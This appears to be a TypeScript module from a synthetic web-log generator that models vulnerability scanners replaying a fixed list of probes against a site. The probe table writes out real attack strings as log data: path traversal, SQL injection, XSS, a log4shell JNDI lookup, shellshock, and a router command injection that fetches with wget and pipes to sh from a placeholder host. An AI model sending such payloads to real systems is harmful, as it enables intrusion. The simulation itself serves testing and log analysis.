/**
 * Vulnerability scans: one address walks a list of probes (WordPress, dotfiles, admin panels,
 * path traversal, SQL injection, log4shell, raw TLS bytes on the plain port) several times a
 * second. The site is not WordPress, so most answers are 404; dotfiles are 403, malformed
 * requests 400, the basic-auth admin area 401 (with the user the scanner tried).
 */
import { SCANNER_AGENTS } from './agents.ts';
import type { Actor, Engine } from './engine.ts';
import { countryIpv4, cidrIpv4 } from './network.ts';
import { hash2, WeightedTable } from './rng.ts';

interface Probe {
  method: string;
  target: string;
  status: number;
  /** A whole raw request line (not `METHOD target protocol`). */
  raw?: string;
  user?: string;
  /** Headers the probe forges instead of the scanner's usual ones. */
  ua?: string;
  referrer?: string;
}

const P = (method: string, target: string, status = 404, extra: Partial<Probe> = {}): Probe => ({ method, target, status, ...extra });

export const PROBES: readonly Probe[] = [
  P('GET', '/.env', 403),
  P('GET', '/.env.production', 403),
  P('GET', '/api/.env', 403),
  P('GET', '/.git/config', 403),
  P('GET', '/.git/HEAD', 403),
  P('GET', '/.aws/credentials', 403),
  P('GET', '/.DS_Store', 403),
  P('GET', '/.htaccess', 403),
  P('GET', '/wp-login.php'),
  P('GET', '/wp-admin/'),
  P('GET', '/wp-admin/setup-config.php'),
  P('GET', '/wp-includes/wlwmanifest.xml'),
  P('GET', '/wp-content/plugins/revslider/readme.txt'),
  P('POST', '/xmlrpc.php'),
  P('GET', '/wordpress/wp-admin/'),
  P('GET', '/phpmyadmin/'),
  P('GET', '/pma/'),
  P('GET', '/administrator/'),
  P('GET', '/admin/', 401),
  P('GET', '/admin/', 401, { user: 'admin' }),
  P('GET', '/admin/login', 401, { user: 'root' }),
  P('GET', '/config.php.bak'),
  P('GET', '/backup.sql'),
  P('GET', '/db.sql'),
  P('GET', '/backup.zip'),
  P('GET', '/server-status', 403),
  P('GET', '/actuator/env'),
  P('GET', '/actuator/health'),
  P('GET', '/info.php'),
  P('GET', '/phpinfo.php'),
  P('GET', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
  P('POST', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400),
  P('GET', '/..%2f..%2f..%2f..%2fetc/passwd', 400),
  P('GET', '/static/../../../../etc/passwd', 400),
  P('GET', '/index.php?page=../../../../etc/passwd'),
  P('GET', "/products?id=1' OR '1'='1", 400),
  P('GET', '/search?q=1%27%20UNION%20SELECT%20NULL,NULL,NULL--'),
  P('GET', '/?id=1%20AND%201=1'),
  P('GET', "/login.php?user=admin'--&pass=x"),
  P('GET', '/search?q="><script>alert(document.cookie)</script>', 400),
  P('GET', '/?x=${jndi:ldap://198.51.100.7:1389/a}'),
  P('GET', '/shell.php'),
  P('GET', '/cmd.php'),
  P('POST', '/boaform/admin/formLogin'),
  P('GET', '/HNAP1/'),
  P('GET', '/owa/auth/logon.aspx'),
  P('GET', '/solr/admin/info/system'),
  P('GET', '/manager/html', 401, { user: 'tomcat' }),
  P('GET', '/remote/login'),
  P('GET', '/geoserver/web/'),
  P('POST', '/_ignition/execute-solution'),
  P('GET', '/telescope/requests'),
  P('GET', '/?XDEBUG_SESSION_START=phpstorm'),
  P('GET', '/.well-known/security.txt'),
  P('GET', '/robots.txt', 200),
  P('GET', '/', 200),
  P('GET', '/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php'),
  P('GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.9%2Ft%7Csh%60)'),
  P('', '', 400, { raw: '\x16\x03\x01\x00\x7a\x01\x00\x00\x76\x03\x03' }),
  P('', '', 400, { raw: 'SSH-2.0-Go' }),
  P('', '', 408, { raw: '-' }),
  P('', '', 400, { raw: 'GET /\tHTTP/1.1\r\nHost: x' }),
  P('CONNECT', 'www.google.com:443', 405),
  P('PROPFIND', '/', 405),
  // Attacks carried in headers: shellshock in the user agent, XSS in the referrer, header injection.
  P('GET', '/cgi-bin/status', 404, { ua: '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"' }),
  P('GET', '/', 200, { referrer: '"><script>alert(1)</script>' }),
  P('GET', '/search?q=test', 200, { ua: 'Mozilla/5.0\r\nX-Forwarded-For: 127.0.0.1', referrer: 'http://localhost\\admin' }),
];

/** Probes per scan run, uniform in [SCAN_MIN, SCAN_MAX]. */
const SCAN_MIN = 20;
const SCAN_MAX = 100;
const STATUS_BYTES: Record<number, number> = { 200: 0, 408: 0, 400: 226, 401: 381, 403: 199, 404: 4_213, 405: 229 };
const SCANNER_COUNTRIES = ['CN', 'RU', 'US', 'NL', 'DE', 'SG', 'IN', 'BR', 'VN', 'KR', 'UA', 'FR'];
const HOSTING = [
  '167.94.138.0/24',
  '45.148.10.0/24',
  '185.220.101.0/24',
  '193.41.206.0/24',
  '80.82.77.0/24',
  '162.142.125.0/24',
  '104.248.0.0/16',
  '139.59.0.0/16',
];

export interface Scanner {
  id: number;
  ip: string;
  /** Home country of the address ('' for hosting blocks listed by CIDR). */
  country: string;
  ua: string;
  key: string;
}

export class ScannerPool {
  readonly scanners: Scanner[] = [];

  constructor(seed: number, firstId: number, count = 250) {
    const agents = new WeightedTable(
      SCANNER_AGENTS.map(([key, ua, w]) => [[key, ua] as const, w] as const),
      1024,
    );
    for (let k = 0; k < count; k++) {
      const id = firstId + k;
      const h = hash2(seed ^ 0x5ca7, id);
      const country = h % 3 === 0 ? '' : SCANNER_COUNTRIES[h % SCANNER_COUNTRIES.length]!;
      const ip = country === '' ? cidrIpv4(HOSTING[h % HOSTING.length]!, seed, id) : countryIpv4(country, seed ^ 0x5ca7, id);
      const [key, ua] = agents.at((hash2(h, 7) % 1_000_000) / 1_000_000);
      this.scanners.push({ id, ip, country, ua: ua === '-' ? '' : ua, key });
    }
  }
}

/** Expected probes per scan run (matches ScanRun). */
export function expectedScanLines(): number {
  return (SCAN_MIN + SCAN_MAX) / 2;
}

export class ScanRun implements Actor {
  t: number;
  seq: number;
  done = false;
  private left: number;
  private next: number;
  private readonly port: number;

  constructor(
    e: Engine,
    private readonly scanner: Scanner,
    private readonly sessionId: number,
    t: number,
  ) {
    this.t = t;
    this.seq = e.nextSeq();
    this.left = e.rng.range(SCAN_MIN, SCAN_MAX);
    this.next = e.rng.int(PROBES.length);
    this.port = e.rng.chance(0.5) ? 80 : 443;
  }

  step(e: Engine): boolean {
    const probe = PROBES[this.next % PROBES.length]!;
    this.next++;
    const hit = e.hit;
    const s = this.scanner;
    hit.t = this.t;
    hit.ip = s.ip;
    hit.user = probe.user ?? '';
    hit.method = probe.method;
    hit.target = probe.target;
    hit.protocol = 'HTTP/1.1';
    hit.raw = probe.raw ?? null;
    hit.untrusted = true;
    hit.referrer = probe.referrer ?? '';
    hit.ua = probe.ua ?? (probe.raw !== undefined ? '' : s.ua);
    hit.port = this.port;
    hit.visitorId = s.id;
    hit.sessionId = this.sessionId;
    hit.scenario = 'scan';
    hit.kind = probe.status !== 200 ? 'probe' : probe.target === '/robots.txt' ? 'robots' : 'page';
    hit.uaKey = s.key;
    hit.country = s.country;
    hit.status = probe.status;
    hit.bytes =
      probe.status !== 200
        ? (STATUS_BYTES[probe.status] ?? 0)
        : probe.target === '/robots.txt'
          ? e.site.robots.bytes
          : probe.target === '/'
            ? e.site.pages.home[0]!.bytes
            : 14_000;
    e.serve(hit);
    if (--this.left <= 0) {
      this.done = true;
      e.endScanRun(s.id, this.t);
    } else {
      this.t += Math.min(e.rng.exp(250) + 10, 30_000);
    }
    return true;
  }
}
